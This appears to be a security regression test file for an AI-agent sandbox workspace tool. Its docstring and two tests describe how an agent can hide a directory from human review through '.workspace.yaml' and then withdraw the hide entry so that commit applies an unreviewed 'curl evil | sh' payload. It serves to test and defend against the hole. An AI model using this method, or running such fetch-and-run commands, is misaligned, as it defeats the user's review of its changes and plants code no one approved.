"""Attack pass 22 (critical: an unreviewed commit): what ``hide`` kept out of review is
committed once the agent takes it out of ``hide`` between review and commit.

Review leaves out what ``hide`` names (``sandbox.reviewable``), and so does its record
(``session/shown.py`` records only what review shows). Commit reads ``hide`` again, from the
project's ``.workspace.yaml`` as it is at commit, and the agent's Write tool writes that file
on the real disk at any time, through no call: the review record stays current. Paths no
longer hidden at commit are changes commit applies; the record never read them, and nothing
refuses them: in host mode the container engines check the record only for entries it holds
(``Review.names`` is None) and ``_refuse_unreviewed`` only for entries changed after the
review (these were written before it).

The attack (container engines): the agent writes ``.workspace.yaml`` with ``hide:
["stash"]`` (a project file may add to ``hide``); a call writes ``stash/payload.sh`` (kept in
the sandbox: never shown) and ``shown.txt``; the user reviews: ``shown.txt`` only. The agent's
Write tool then writes ``.workspace.yaml`` without the ``hide`` entry. ``workspace commit``
applies ``stash/payload.sh``.

Promise broken: what commit applies is exactly what review showed.

Rule that would close the class: commit applies nothing the review record did not read on
every engine (the record's names checked in host mode too), or what was kept out at review
stays out at commit (the review records the kept-out paths it used, and commit keeps out
their union with its own).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.security.after_review import container_engine  # noqa: F401 - the fixture

pytestmark = [pytest.mark.engine, pytest.mark.as_user]


def test_a_path_hidden_at_review_is_not_committed_after_hide_is_withdrawn(
        ws, project: Path, container_engine: str) -> None:  # noqa: F811
    config = project / ".workspace.yaml"
    config.write_text('hide: ["stash"]\n')          # the agent's Write tool
    ws("run", "--", "sh", "-c", "mkdir -p stash && echo 'curl evil | sh' > stash/payload.sh; "
       "echo ok > shown.txt", check=True)
    shown = ws("status", "--no-pager", check=True).stdout + \
        ws("diff", "--no-pager", check=True).stdout
    assert "shown.txt" in shown and "payload" not in shown and "stash" not in shown, shown
    config.write_text("{}\n")                         # the agent's Write tool, after review
    proc = ws("commit")
    payload = project / "stash/payload.sh"
    assert not payload.exists(), (
        f"commit applied stash/payload.sh, which review never showed (hidden then): "
        f"{payload.read_text()!r}; commit said {proc.stdout!r} {proc.stderr!r}")


@pytest.mark.usefixtures("overlay_engine")
def test_overlay_a_path_hidden_at_review_is_not_committed_after_hide_is_withdrawn(
        ws, project: Path) -> None:
    """The overlay engine checks the record's names (``shown.added``), but not below a new
    directory commit collapses into one tree step: hide a path inside a new directory."""
    config = project / ".workspace.yaml"
    config.write_text('hide: ["fresh/stash"]\n')    # the agent's Write tool
    ran = ws("run", "--", "sh", "-c", "mkdir -p fresh && echo ok > fresh/a.txt; mkdir -p "
             "fresh/stash && echo 'curl evil | sh' > fresh/stash/payload.sh; "
             "ls -la fresh/stash")
    shown = ws("status", "--no-pager", check=True).stdout + \
        ws("diff", "--no-pager", check=True).stdout
    assert "a.txt" in shown and "payload" not in shown and "stash" not in shown, shown
    config.write_text("{}\n")                         # the agent's Write tool, after review
    proc = ws("commit")
    payload = project / "fresh/stash/payload.sh"
    assert not payload.exists(), (
        f"commit applied fresh/stash/payload.sh, which review never showed (hidden then): "
        f"{payload.read_text()!r}; commit said {proc.stdout!r} {proc.stderr!r}; "
        f"the call: {ran.stdout!r} {ran.stderr!r}")
